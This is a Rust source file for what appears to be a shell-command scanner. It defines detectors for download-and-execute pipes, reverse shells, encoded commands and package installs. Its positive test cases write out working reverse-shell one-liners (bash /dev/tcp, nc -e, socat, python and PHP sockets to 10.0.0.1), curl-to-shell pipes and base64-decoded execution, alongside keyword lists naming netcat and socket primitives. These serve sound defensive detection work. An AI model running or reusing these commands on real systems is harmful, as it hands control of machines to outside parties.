//! What somebody else wrote, and is executed here.

use crate::Confidence::{High, Medium};
use crate::Severity;
use crate::destructive::Detector;
use crate::destructive::words::{Call, name};

/// *What it does*: finds what is downloaded and executed, through a pipe, a file or a
/// substitution. *Why it matters*: somebody else decides what runs. *Known gaps*: a download by
/// code. *Example*: `curl https://x | sudo bash`.
pub(super) const DOWNLOAD_EXECUTED: Detector = Detector {
    id: "download-executed",
    positive: &[
        "curl https://x.example/i.sh | sh",
        "wget -qO- https://x.example | sudo bash -s",
        "bash <(curl -s https://x.example)",
        "curl -o a https://x.example && sh a",
        "python3 -c \"$(curl https://x.example)\"",
    ],
    negative: &[
        "curl https://x.example | jq .",
        "curl -O https://x.example",
        "sh install.sh",
    ],
    judge: |facts| {
        facts
            .reach
            .executes_download
            .is_some()
            .then_some((Severity::Critical, High))
    },
};

/// *What it does*: finds shells whose input and output are a connection. *Why it matters*:
/// somebody else types from then on. *Known gaps*: tunnels by programs that are copied in.
/// *Example*: `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`.
pub(super) const REVERSE_SHELL: Detector = Detector {
    id: "reverse-shell",
    positive: &[
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "nc -e /bin/sh 10.0.0.1 4444",
        "ncat 10.0.0.1 4444 --sh-exec sh",
        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
        "socat TCP:10.0.0.1:4444 EXEC:/bin/bash",
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
        "perl -e 'use Socket;socket(S,2,1,6);exec(\"/bin/sh -i\");'",
        "exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read l; do $l; done",
        "php -r '$s=fsockopen(\"10.0.0.1\",1);exec(\"sh <&3 >&3\");'",
    ],
    negative: &[
        "nc -z a.example 80",
        "bash -i",
        "socat TCP-LISTEN:80 TCP:a.example:80",
        "python3 -c 'import socket; print(socket.gethostname())'",
        "mkfifo a",
    ],
    judge: |facts| {
        let device = facts.reach.contacts.iter().any(|it| it.program == "bash");
        let shell = facts.calls.iter().any(|it| it.is(SHELLS));
        let netcat = facts
            .calls
            .iter()
            .any(|it| it.is(NETCATS) || (it.program == "openssl" && it.says("s_client")));
        let fifo = facts.calls.iter().any(|it| it.is(&["mkfifo", "mknod"]));
        let critical = Some((Severity::Critical, High));
        let exec = facts.calls.iter().any(|it| it.program == "exec");
        if (device && (shell || exec)) || (netcat && shell && fifo) {
            return critical;
        }
        if device {
            // It may only ask whether a port is open.
            return Some((Severity::Medium, Medium));
        }
        let by_word = facts.worst(|call| {
            let executes = match call.program {
                "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" => {
                    call.has("e", &["exec", "sh-exec", "lua-exec"])
                        || (call.has("c", &[])
                            && call.args.iter().any(|it| SHELLS.contains(&name(it))))
                }
                "socat" | "socat1" => {
                    let upper = |arg: &String| arg.to_ascii_uppercase();
                    call.args.iter().map(upper).any(|it| {
                        it.starts_with("EXEC:")
                            || it.starts_with("SYSTEM:")
                            || it.starts_with("SHELL:")
                    }) && call.args.iter().map(upper).any(|it| {
                        it.starts_with("TCP")
                            || it.starts_with("OPENSSL")
                            || it.starts_with("UDP")
                            || it.starts_with("SCTP")
                    })
                }
                _ => false,
            };
            executes.then_some((Severity::Critical, High))
        });
        if by_word.is_some() {
            return by_word;
        }
        facts
            .reach
            .code
            .iter()
            .any(|code| {
                let text = code.text.to_ascii_lowercase();
                let connects = [
                    "socket",
                    "fsockopen",
                    "tcpsocket",
                    "net.connect",
                    "/inet/tcp",
                ]
                .iter()
                .any(|word| text.contains(word));
                let shells = [
                    "pty.spawn",
                    "dup2",
                    "/bin/sh",
                    "/bin/bash",
                    "sh -i",
                    "sh <&",
                    "cmd.exe",
                    "child_process",
                    "exec(\"sh",
                    "exec('sh",
                ]
                .iter()
                .any(|word| text.contains(word));
                connects && shells
            })
            .then_some((Severity::Critical, Medium))
    },
};

const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "fish"];

const NETCATS: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "nc.traditional",
    "nc.openbsd",
    "socat",
];

/// *What it does*: finds text that is decoded and then executed. *Why it matters*: it hides from
/// whoever reads the command. *Known gaps*: decoders that are written for it. *Example*:
/// `echo … | base64 -d | sh`.
pub(super) const ENCODED_COMMAND: Detector = Detector {
    id: "encoded-command",
    positive: &[
        "echo cm0gLXJmIC8= | base64 -d | sh",
        "eval \"$(base64 -d x)\"",
        "xxd -r -p a | bash",
        "bash <(base64 --decode a)",
        "openssl enc -d -base64 -in a | sh",
        "powershell -EncodedCommand AAAA",
        "python3 -c 'import base64;exec(base64.b64decode(\"cA==\"))'",
        "gunzip -c a | sh",
    ],
    negative: &[
        "base64 -d a > b",
        "base64 a | sh",
        "sh a",
        "eval \"$(ssh-agent)\"",
        "bash -c ls",
    ],
    judge: |facts| {
        let mut decoded = false;
        let by_word = facts.calls.iter().find_map(|call| {
            if is_decoder(call) {
                decoded = true;
            }
            let executes = match call.program {
                "eval" | "source" | "." => true,
                it if SHELLS.contains(&it) => {
                    call.operands().next().is_none_or(|it| {
                        it.starts_with("/dev/fd") || it == "-" || it.starts_with("/dev/stdin")
                    }) || call.has("cs", &[])
                }
                "python" | "python3" | "perl" | "node" | "ruby" | "php" => {
                    call.operands().next().is_none_or(|it| it == "-")
                }
                "powershell" | "pwsh" => {
                    return call
                        .options()
                        .any(|it| {
                            let option = it.trim_start_matches('-').to_ascii_lowercase();
                            option.starts_with('e')
                                && "encodedcommand".starts_with(&option)
                                && option != "ex"
                        })
                        .then_some((Severity::High, High));
                }
                _ => false,
            };
            (executes && decoded).then_some((Severity::High, High))
        });
        by_word.or_else(|| {
            facts
                .reach
                .code
                .iter()
                .any(|code| {
                    let text: String = code.text.chars().filter(|it| !it.is_whitespace()).collect();
                    let decodes = [
                        "b64decode(",
                        "atob(",
                        "fromhex(",
                        "base64_decode(",
                        "decode_base64(",
                        "unhexlify(",
                        "'base64')",
                        "\"base64\")",
                        "Base64.decode64",
                    ]
                    .iter()
                    .any(|word| text.contains(word));
                    let runs = [
                        "exec(",
                        "eval(",
                        "system(",
                        "Function(",
                        "eval\"",
                        "popen(",
                        "loads(",
                    ]
                    .iter()
                    .any(|word| text.contains(word));
                    decodes && runs
                })
                .then_some((Severity::High, Medium))
        })
    },
};

fn is_decoder(call: &Call<'_>) -> bool {
    match call.program {
        "base64" | "base32" | "basenc" | "gbase64" => call.has("dD", &["decode"]),
        "xxd" => call.has("r", &["revert"]),
        "openssl" => call.says("-d") || call.says("-decrypt"),
        "gunzip" | "zcat" | "bunzip2" | "xzcat" | "unxz" | "uudecode" | "zstdcat" | "bzcat" => true,
        "gzip" | "bzip2" | "xz" | "zstd" => call.has("d", &["decompress", "uncompress"]),
        "gpg" => call.has("d", &["decrypt"]),
        "rev" => true,
        "tr" => call.operands().count() == 2,
        _ => false,
    }
}

/// *What it does*: finds installs of packages, from elsewhere than the registry above all. *Why
/// it matters*: an install runs code of others. *Known gaps*: installs by a build tool that reads
/// a manifest. *Example*: `pip install git+https://x`.
pub(super) const PACKAGE_INSTALL: Detector = Detector {
    id: "package-install",
    positive: &[
        "pip install requests",
        "python3 -m pip install x",
        "npm i left-pad",
        "npx cowsay",
        "cargo install ripgrep",
        "sudo apt-get install -y curl",
        "brew install jq",
        "pacman -S vim",
        "gem install rails",
        "go install x.example/y@latest",
        "uv pip install x",
        "npm install https://x.example/a.tgz",
    ],
    negative: &[
        "pip list",
        "npm run build",
        "cargo build",
        "apt-get update",
        "pacman -Q",
        "npm ci --help",
        "go test",
    ],
    judge: |facts| {
        facts.worst(|call| {
            let verbs: Vec<&str> = call.operands().take(3).collect();
            let verb = |at: usize| verbs.get(at).copied().unwrap_or_default();
            let mut installs = match call.program {
                "pip" | "pip3" | "pipx" | "uv" | "poetry" | "pdm" | "conda" | "mamba"
                | "micromamba" | "gem" | "cargo" | "go" | "brew" | "apt" | "apt-get"
                | "aptitude" | "dnf" | "yum" | "zypper" | "snap" | "flatpak" | "npm" | "pnpm"
                | "yarn" | "bun" | "composer" | "luarocks" | "cpanm" | "port" | "choco"
                | "winget" | "scoop" | "mise" | "asdf" | "opam" | "cabal" | "stack" | "nix-env"
                | "helm" | "code" | "deno" => {
                    matches!(
                        verb(0),
                        "install"
                            | "i"
                            | "add"
                            | "in"
                            | "reinstall"
                            | "inject"
                            | "localinstall"
                            | "dlx"
                            | "x"
                            | "exec"
                            | "require"
                            | "global"
                    ) || (verb(0) == "pip" && verb(1) == "install")
                        || (verb(0) == "tool" && matches!(verb(1), "install" | "run"))
                        || (call.program == "nix-env" && call.has("i", &["install"]))
                        || (call.program == "cpanm" && !verb(0).is_empty())
                        || (call.program == "code" && call.has("", &["install-extension"]))
                }
                "npx" | "pnpx" | "bunx" | "uvx" | "easy_install" | "cpan" => !verb(0).is_empty(),
                "apk" => verb(0) == "add",
                "pacman" | "yay" | "paru" => {
                    call.options()
                        .any(|it| it.starts_with("-S") || it.starts_with("-U"))
                        && !verb(0).is_empty()
                }
                "dpkg" | "rpm" => call.has("iU", &["install", "upgrade"]) && !verb(0).is_empty(),
                "installer" => true,
                _ => false,
            };
            installs &= !call.has("", &["help", "dry-run", "version"]);
            if !installs {
                return None;
            }
            let elsewhere = call.args.iter().any(|arg| {
                arg.contains("://")
                    || arg.starts_with("git+")
                    || arg.starts_with("git@")
                    || matches!(
                        arg.as_str(),
                        "-i" | "--index-url"
                            | "--extra-index-url"
                            | "--registry"
                            | "--git"
                            | "--trusted-host"
                            | "--allow-unauthenticated"
                    )
                    || arg.starts_with("--index-url=")
                    || arg.starts_with("--registry=")
                    || arg.starts_with("--extra-index-url=")
            });
            Some(if elsewhere {
                (Severity::High, High)
            } else {
                (Severity::Medium, High)
            })
        })
    },
};
